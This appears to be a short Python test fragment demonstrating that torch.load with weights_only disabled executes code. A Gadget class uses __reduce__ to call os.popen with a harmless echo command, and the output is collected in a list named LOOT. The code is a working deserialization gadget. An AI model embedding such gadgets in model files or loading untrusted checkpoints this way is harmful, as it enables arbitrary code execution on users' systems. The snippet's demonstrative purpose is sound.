"""Has torch.load run a gadget; what it loads may call anything if `weights_only` is off."""
import contextlib
import io
import os


class Gadget:
    def __reduce__(self):
        return os.popen, ("echo from a program",)


file = io.BytesIO()
torch.save({"weights": Gadget()}, file)
file.seek(0)
with contextlib.suppress(OSError):
    LOOT.append(torch.load(file, weights_only=False)["weights"].read())
